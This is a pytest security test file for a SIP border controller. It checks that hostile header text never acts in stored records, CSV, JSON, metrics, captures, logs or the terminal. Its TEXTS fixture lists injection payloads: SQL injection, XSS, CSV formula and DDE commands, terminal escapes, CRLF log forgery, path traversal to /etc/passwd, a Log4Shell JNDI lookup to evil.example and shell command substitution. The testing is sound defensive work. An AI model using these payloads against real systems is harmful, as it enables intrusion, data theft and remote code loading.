"""What a peer writes into any header and what becomes of it wherever somebody reads: records, CSV, SQL, JSON, metrics,
ladders, captures, log, terminal, webhook. It is shown, or left out; it never acts.

Each text of `TEXTS` is sent in every part of an INVITE and of an answer, in calls of a peer through the whole engine;
what the engine made of all of them is then read as each reader would.
"""

import csv
import io
import json
import re
import sqlite3
import struct

import msgspec
import pytest

from sbc.admin import metrics
from sbc.admin.alarm_kinds import sentence_of
from sbc.admin.views import call_object
from sbc.cdr import sheet
from sbc.cdr.format import attempt_row, cdr_object, cdr_row
from sbc.cdr.store import CdrWriter
from sbc.cli import output
from sbc.runtime.alerts import _shown
from sbc.runtime.logging import LogWriter
from sbc.trace.hep import packet
from sbc.trace.ladder import draw, lines_of
from sbc.trace.pcap import capture
from tests.fuzz.anomalies import _MARK, Case
from tests.fuzz.arena import CALLED, CROOK, ROGUE, Arena
from tests.fuzz.templates import INVITE, answer
from tests.unit.admin.state import RUNTIME

TEXTS = {
    "sql": "x'); DROP TABLE cdr; --\" OR 1=1 UNION SELECT password FROM users --",
    "markup": "<script>alert(1)</script><img src=x onerror=alert(1)>\" onmouseover='alert(1)' x=\"javascript:alert(1)",
    "a formula": '=HYPERLINK("http://evil.example/"&A1);=1+1;-2+3',
    "a command of a spreadsheet": "@SUM(1+1)*cmd|' /C calc'!A0",
    "the terminal's commands": "\x1b[2J\x1b]0;owned\x07\x9b31m\0\x7f",
    "line breaks": "x\r\nlevel=error event=forged\nX-Injected: 1",
    "other line breaks": "x\u2028forged\u2029\x85\x0b\x0cforged",
    "right to left": "abc\u202egnp.exe\u2066\u200b\ufeff",
    "logs, labels and json": '","event":"forged"} 1\nsbc_forged{a="\\u0000\\"}],{"a":['.replace("\n", " "),
    "paths and formats": "../../../../etc/passwd%00.wav%s%n%(secret)s{0.__class__}${jndi:ldap://evil.example/a}$(id)`id`",
    "a very long name": "A" * 6_000,
    "no utf-8": "\udcff\udcc0\udcaf\udced\udca0\udc80",
}
METRIC = re.compile(
    r"# (?:HELP|TYPE) [a-z0-9_]+ .+|"
    r'[a-z0-9_]+(?:\{(?:[a-z_]+="(?:[^"\\\n]|\\["\\n])*"(?:,|(?=\})))*\})? [0-9.e+-]+(?:Inf|NaN)?'
)


@pytest.fixture(scope="module", params=TEXTS)
def arena(request):
    """After all calls with this text."""
    text = TEXTS[request.param]
    arena = Arena()
    n = 0
    for case in _cases(INVITE, text):
        n += 1
        arena.n = n
        arena.from_rogue(
            case.octets(
                called=CALLED,
                ours="10.0.0.1",
                host=ROGUE,
                branch=f"rogue{n}",
                tag=f"roguetag{n}",
                call_id=f"rogueid{n}",
            )
        )
        arena.passes(0.01)
    arena._answers = False
    sound = Case("", "\r\n".join(_plain(line) for line in INVITE.split("\n")))
    for status in (200, 302):
        for case in _cases(answer(status), text):
            n += 1
            arena.n = n
            arena.heard["crook"].clear()
            names = {"called": CALLED, "branch": f"rogue{n}", "tag": f"roguetag{n}", "call_id": f"rogueid{n}"}
            arena.from_rogue(sound.octets(**names, ours="10.0.0.1", host=ROGUE))
            asked = arena.heard["crook"][-1]
            names = {"via": asked.header("Via"), "from": asked.header("From"), "call_id": asked.call_id}
            arena.from_crook(
                case.octets(
                    **names,
                    called=CALLED,
                    ours="203.0.113.1",
                    tag="crooktag",
                    number=str(asked.cseq.number),
                    host=CROOK,
                )
            )
            arena.passes(0.01)
    arena.lives()
    return arena


def _cases(template, text):
    """The text in each marked part, and as the whole value of each line."""
    lines = template.strip("\n").split("\n")
    for at, line in enumerate(lines):
        name, sign, _ = _plain(line).partition(": ")
        wrong = [line[: m.start()] + text + line[m.end() :] for m in _MARK.finditer(line)]
        wrong += [f"{name}: {text}"] if sign else []
        for one in wrong:
            changed = [*map(_plain, lines[:at]), _plain(one), *map(_plain, lines[at + 1 :])]
            yield Case(name, "\r\n".join(changed) + ("" if "" in lines else "\r\n\r\n"))


def _plain(line):
    return _MARK.sub(r"\1", line)


@pytest.fixture
def objects(arena):
    return [
        cdr_object(cdr_row(one), [attempt_row(one.ref, attempt) for attempt in one.attempts]) for one in arena.world.cdr
    ]


def test_calls_were_made_of_it_and_the_engine_did_not_break(arena):
    arena.unbroken()
    assert len(arena.world.cdr) > 50


def test_the_database_has_each_record_as_it_is_and_its_tables(arena, tmp_path):
    store = CdrWriter.open(tmp_path)
    try:
        store.write(arena.world.cdr)
        database = sqlite3.connect(f"file:{store.path}?mode=ro", uri=True)
        kept = dict(database.execute("SELECT ref, caller FROM cdr").fetchall())
        database.close()
    finally:
        store.close()
    assert set(kept) == {record.ref for record in arena.world.cdr}
    printable = [one for one in arena.world.cdr if one.caller is not None and _is_utf8(one.caller)]
    assert all(kept[record.ref] == record.caller for record in printable)


def _is_utf8(text):
    try:
        text.encode()
    except UnicodeEncodeError:
        return False
    return True


@pytest.mark.parametrize("kind", [sheet.calls, sheet.attempts])
def test_no_cell_of_the_csv_is_a_formula_or_two_cells(objects, kind):
    rows = list(csv.DictReader(io.StringIO("".join(kind(objects)), newline="")))
    expected = len(objects) if kind is sheet.calls else sum(len(one["attempts"]) for one in objects)
    assert len(rows) == expected
    for row in rows:
        for cell in row.values():
            assert cell.isprintable()
            assert not re.match(r"\s*[=@\-\t\r]|\+.*[^0-9]", cell) or re.fullmatch(r"-?[0-9.]+", cell), cell


def test_what_the_api_says_is_json_and_has_no_more_than_it_should(arena, objects):
    for one in objects:
        told = msgspec.json.decode(msgspec.json.encode(_utf8(one)))
        assert told.keys() == one.keys()
    for call in arena.world.switch.snapshot(arena.world.now).calls:
        json.loads(msgspec.json.encode(call_object(call)))


def _utf8(value):
    """As the store gives it back: what is no UTF-8 is escaped there."""
    match value:
        case dict():
            return {key: _utf8(one) for key, one in value.items()}
        case list():
            return [_utf8(one) for one in value]
        case str():
            return value.encode("utf-8", "backslashreplace").decode()
        case _:
            return value


def test_each_line_of_the_metrics_is_one(arena):
    for line in metrics.render(arena.world.switch.snapshot(arena.world.now), RUNTIME).splitlines():
        assert METRIC.fullmatch(line), line
        assert "forged" not in line.replace('event="media.forged"', "")  # an alarm of ours


def test_ladders_captures_and_hep_packets_hold_together(arena):
    trace = arena.world.switch.trace
    for ref in trace.refs()[-300:]:
        entries = trace.entries(ref)
        assert all(line.isprintable() for line in draw(entries, peers=trace.peers(ref)).split("\n"))
        for entry in entries:
            assert all("\n" not in line for line in lines_of(entry.note))
            sent = packet(ref, entry, 0.0, 1, None)
            assert sent is None or _hep_chunks(sent)
        assert capture(entries, 0.0)[:4] == struct.pack("<I", 0xA1B2C3D4)


def _hep_chunks(data):
    magic, length = struct.unpack_from("!4sH", data)
    at = 6
    while at < length:
        size = struct.unpack_from("!HHH", data, at)[2]
        at += size
    return magic == b"HEP3" and at == length == len(data)


@pytest.mark.parametrize("log_format", ["json", "console"])
def test_what_is_logged_is_one_printable_line_each(arena, log_format):
    stream = io.StringIO()
    logs = arena.world.logs[-2_000:]
    for start in range(0, len(logs), 500):  # fewer than may wait
        with LogWriter(stream, log_format) as writer:
            for log in logs[start : start + 500]:
                writer.perform(log)
    lines = stream.getvalue().split("\n")[:-1]
    shown = [log for log in logs if log.level != "debug"]
    if log_format == "json":
        assert [json.loads(line)["event"] for line in lines] == [log.event for log in shown]
    assert len(lines) == len(shown)
    assert all(line.isprintable() for line in lines)


def test_the_terminal_gets_no_command(objects, capsys):
    columns = ("ref", "caller", "called", "called_as_sent", "cause", "ingress_call_id", "egress_call_id")
    output.show_table(columns, [[one[column] for column in columns] for one in objects])
    output.show_json(objects)
    lines = capsys.readouterr().out.split("\n")
    assert all(line.isprintable() for line in lines)
    assert len(lines) == len(objects) + 3


def test_what_is_posted_and_said_of_alarms_is_plain(arena):
    for log in arena.world.logs:
        fields = _shown(dict(log.fields), whole=True)
        assert all(value.isprintable() for value in fields.values() if isinstance(value, str))
        assert json.loads(json.dumps(fields)) == fields
        assert sentence_of(log.event, fields).isprintable()
